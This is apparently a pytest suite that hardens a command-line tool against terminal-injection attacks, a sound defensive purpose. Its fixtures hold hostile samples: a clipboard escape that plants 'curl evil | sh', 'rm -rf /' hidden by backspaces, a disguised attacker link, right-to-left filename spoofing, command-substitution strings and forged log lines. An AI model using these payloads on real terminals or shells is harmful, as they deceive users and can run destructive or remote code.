"""Words of strangers that steer a terminal: colours and titles, the clipboard, links, lines that read as others."""

from __future__ import annotations

import json
import os
import pty
import re
import select
import subprocess
import sys
import unicodedata
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
import structlog
import yaml
from hypothesis import given
from hypothesis import strategies as st

from commands import completing
from commands.complaints import complain
from commands.output import Listing, render_ids
from commands.output.csv_form import render as render_csv
from commands.output.json_form import render as render_json
from commands.output.json_form import render_lines
from commands.output.yaml_form import render as render_yaml
from commands.terminal import Look, one_line, plain
from commands.transaction_view import describe_payload, refuse_to_steer
from console.text import clean
from hub.logs import set_up_logs
from transactions.errors import Refused
from transactions.history import Payload
from transactions.steering import STEERING, escaped, escaped_json

LOOK = Look(width=80, colour=False, now=datetime(2026, 11, 21, tzinfo=UTC))
ATTACKS = {
    "colour": "\x1b[31mred",
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "link": "\x1b]8;;https://attacker.example\x1b\\ERP\x1b]8;;\x1b\\",
    "clear": "\x1b[2J\x1b[H",
    "answer back": "\x1b[6n",
    "device control": "\x1bP+q544e\x1b\\",
    "C1 colour": "\x9b31mred",
    "C1 title": "\x9d0;owned\x9c",
    "next line": "a\x85b",
    "backspace": "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls     ",
    "over the line": "ok\rowned",
    "null": "a\x00b",
    "delete": "a\x7fb",
    "right to left": "invoice\u202egpj.exe",
    "isolate": "\u2066if admin\u2069",
    "arabic mark": "a\u061cb",
    "zero width": "AD\u200bMIN",
    "joiner": "AD\u2060MIN",
    "soft hyphen": "AD\u00adMIN",
    "byte order mark": "AD\ufeffMIN",
    "line separator": "a\u2028b",
    "filler": "a\u3164b",
    "tag": "a\U000e0041b",
    "annotation": "a\ufff9b",
}


def steers(text: str) -> bool:
    """Whether a terminal, or the eye of who reads it, is led astray. Written down anew, not taken from the code."""
    for char in text:
        if char in "\t\n":
            continue
        if unicodedata.category(char) in ("Cc", "Zl", "Zp", "Cs"):
            return True
        if unicodedata.category(char) == "Cf" and unicodedata.name(char, "") and not _shows(char):
            return True
        if char in "\u115f\u1160\u3164\uffa0\u034f":
            return True
    return False


def _shows(char: str) -> bool:
    """Format characters that are seen: signs that stand over or before Arabic and other numbers, and musical ones."""
    return (
        0x600 <= ord(char) <= 0x605
        or ord(char) in (0x6DD, 0x70F, 0x8E2, 0x110BD, 0x110CD)
        or (0x890 <= ord(char) <= 0x891 or 0x13430 <= ord(char) <= 0x1343F or 0x1BCA0 <= ord(char) <= 0x1BCA3)
    )


@pytest.mark.parametrize("name", ATTACKS)
def test_every_attack_is_one_until_it_is_neutralised(name: str) -> None:
    attack = ATTACKS[name]
    assert steers(attack), "a print() would let it through"
    for harmless in (plain(attack), one_line(attack), clean(attack), escaped(attack)):
        assert not steers(harmless), harmless
        assert "\x1b" not in harmless


@given(st.text(st.characters(codec=None), max_size=60))
def test_whatever_is_said_steers_nothing(text: str) -> None:
    for harmless in (plain(text), one_line(text), clean(text)):
        assert not steers(harmless)
    assert "\n" not in one_line(text)
    assert "\t" not in one_line(text)


@given(st.text(max_size=60))
def test_what_steers_nothing_stays_as_it_is(text: str) -> None:
    if not STEERING.search(text):
        assert plain(text) == clean(text) == text


@given(
    st.recursive(
        st.text() | st.integers() | st.none(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)
    )
)
def test_json_says_the_same_and_steers_nothing(value: Any) -> None:
    written = json.dumps(value, ensure_ascii=False).encode()
    harmless = escaped_json(written)
    assert not steers(harmless.decode())
    assert json.loads(harmless) == value


@pytest.mark.parametrize("name", ATTACKS)
def test_no_form_of_output_lets_it_through(name: str) -> None:
    payload = Payload(
        id=ATTACKS[name],
        revision=1,
        content_type=ATTACKS[name],
        sha256="0",
        size=1,
        encoding="text",
        content=ATTACKS[name],
        headers={ATTACKS[name]: ATTACKS[name]},
        revisions=[],
    )
    listing = Listing(of=Payload, items=[payload], columns=(), empty="", identify=lambda each: each.id)
    for render in (render_json, render_lines, render_yaml, render_ids):
        assert not steers(render(listing).decode()), render
    assert not steers(render_csv(listing).decode().replace("\r", "\n"))
    assert not steers(describe_payload(payload, LOOK))
    assert json.loads(render_json(listing))["items"][0]["content"] == ATTACKS[name]
    assert yaml.safe_load(render_yaml(listing))["items"][0]["content"] == ATTACKS[name]
    assert len(render_ids(listing).decode().splitlines()) == 1


@pytest.mark.parametrize("name", ATTACKS)
def test_an_error_that_echoes_it_is_harmless(name: str) -> None:
    assert not steers(complain(Refused(f"It was refused: {ATTACKS[name]}. Nothing was done. Look again."), LOOK))


# Raw payloads


@pytest.mark.parametrize("name", ATTACKS)
def test_raw_bytes_that_steer_are_held_back_from_a_terminal(name: str) -> None:
    with pytest.raises(Refused, match="Nothing was shown"):
        refuse_to_steer(f"<a>{ATTACKS[name]}</a>".encode())


@pytest.mark.parametrize("content", [b"\xff\xfe", "Größe".encode("latin-1"), b"PK\x03\x04"])
def test_bytes_that_are_no_text_are_held_back_too(content: bytes) -> None:
    with pytest.raises(Refused):
        refuse_to_steer(content)


@pytest.mark.parametrize("content", [b"", b"<a>\r\n\tb\r\n</a>", "Größe ✓ 😀".encode()])
def test_plain_documents_are_shown(content: bytes) -> None:
    refuse_to_steer(content)


# Shells


@pytest.mark.parametrize(
    "name",
    [
        "$(id)",
        "`id`",
        "a;id",
        "a b",
        "a\nb",
        "a|b",
        "a&b",
        "'",
        '"',
        "a\\b",
        "*",
        "~",
        "!x",
        "#",
        "a\x1b",
        "\u202ea",
        "{a,b}",
    ],
)
def test_a_name_that_a_shell_would_act_on_is_not_offered(name: str, monkeypatch, tmp_path) -> None:
    if name == "$(id)":
        ran = subprocess.run(["sh", "-c", f"echo {name}"], capture_output=True, text=True, check=True)
        assert "uid=" in ran.stdout  # what happens to a completion that is taken as it is
    assert completing._starting("", lambda _: [name, "goods-receipt", "MES/P01"]) == ["MES/P01", "goods-receipt"]


# Logs


@pytest.fixture
def logs(capsys) -> Iterator[Any]:
    before = structlog.get_config()
    set_up_logs()
    yield lambda: capsys.readouterr().err
    structlog.configure(**before)


@pytest.mark.parametrize("name", ATTACKS)
def test_a_log_line_cannot_be_forged_or_steered(logs, name: str) -> None:
    import logging

    attack = f'{ATTACKS[name]}\n{{"event": "hub.serving", "level": "info"}}'
    assert len(f"received {attack}".splitlines()) > 1  # in plain text, the second line is a line like any other
    structlog.get_logger("andon.test").warning("x", said=attack, field=attack)
    logging.getLogger("some.library").error("it broke: %s", attack)
    told = logs()
    assert not steers(told)
    lines = [json.loads(line) for line in told.splitlines() if line.startswith("{")]
    assert len(lines) == len(told.splitlines())
    assert lines[0]["said"] == attack
    assert "hub.serving" not in [line["event"] for line in lines]


# The whole way: a source sends it, a person looks, on a real terminal


@pytest.fixture(scope="module")
def poisoned(hub) -> str:
    """The id of a transaction whose every word steers, in the hub that all tests share."""
    key = uuid.uuid4().hex
    attack = "".join(ATTACKS.values())
    content = json.dumps(
        {"OperationsEvent": {"ID": key, "Equipment": {"ID": attack}, "Note": attack}}, ensure_ascii=False
    ).encode()
    headers = {"Content-Type": "application/json", "Idempotency-Key": f"hardening-{key}", "ce-note": b"\x9b31m"}
    answer = httpx.post(
        f"{hub.url}/ingress/downtime-event?plant=P01",
        content=content,
        headers={"Authorization": f"Bearer {hub.token}", **headers},
    )
    assert answer.status_code == 202, answer.text
    return str(answer.json()["items"][0]["id"])


def on_a_terminal(hub, *words: str) -> tuple[int, str]:
    """Run ``andon`` on a pseudo-terminal; exit code and everything it wrote."""
    ours, theirs = pty.openpty()
    environ = {**os.environ, **hub.env, "TERM": "xterm-256color", "NO_COLOR": "1", "PYTHONIOENCODING": "utf-8"}
    process = subprocess.Popen(
        [sys.executable, "-m", "commands", *words], stdin=theirs, stdout=theirs, stderr=theirs, env=environ
    )
    os.close(theirs)
    told = b""
    try:
        while select.select([ours], [], [], 60)[0]:
            try:
                piece = os.read(ours, 65_536)
            except OSError:  # Linux says so when the other end is closed
                break
            if not piece:
                break
            told += piece
        return process.wait(30), told.decode("utf-8", "surrogateescape").replace("\r\n", "\n")
    finally:
        os.close(ours)
        if process.poll() is None:
            process.kill()
            process.wait()


@pytest.mark.parametrize(
    "words",
    [
        ("tx", "list", "--limit", "1000"),
        ("tx", "show", "ID"),
        ("tx", "payload", "ID"),
        ("tx", "timeline", "ID"),
        ("tx", "show", "ID", "-o", "json"),
        ("tx", "payload", "ID", "-o", "yaml"),
        ("tx", "payload", "ID", "-o", "jsonl"),
        ("tx", "payload", "ID", "-o", "csv"),
        ("tx", "list", "--filter", ATTACKS["clipboard"]),
        ("tx", "list", "--context", ATTACKS["C1 title"]),
        ("tx", "show", ATTACKS["link"]),
        ("tx", "list", "-o", ATTACKS["right to left"]),
        (ATTACKS["title"],),
    ],
    ids=lambda words: " ".join(words[:2]).encode("unicode_escape").decode()[:40],
)
def test_on_a_real_terminal_nothing_steers(hub, poisoned: str, words: tuple[str, ...]) -> None:
    _, told = on_a_terminal(hub, *(poisoned if word == "ID" else word for word in words))
    assert told
    assert not steers(told.replace("\r", "\n")), re.findall(STEERING, told)[:5]


def test_raw_goes_to_a_pipe_byte_for_byte_and_not_to_a_terminal(hub, poisoned: str) -> None:
    environ = {**os.environ, **hub.env}
    words = [sys.executable, "-m", "commands", "tx", "payload", poisoned, "--raw"]
    piped = subprocess.run(words, capture_output=True, env=environ, check=True).stdout
    assert json.loads(piped)["OperationsEvent"]["Note"] == "".join(ATTACKS.values())
    raw = httpx.get(
        f"{hub.url}/admin/v1/transactions/{poisoned}/payload",
        headers={"Authorization": f"Bearer {hub.token}", "Accept": "application/octet-stream"},
    ).content
    assert piped == raw
    code, told = on_a_terminal(hub, "tx", "payload", poisoned, "--raw")
    assert steers(raw.decode())
    assert (code, "Nothing was shown" in told) == (6, True)
    assert not steers(told.replace("\r", "\n"))
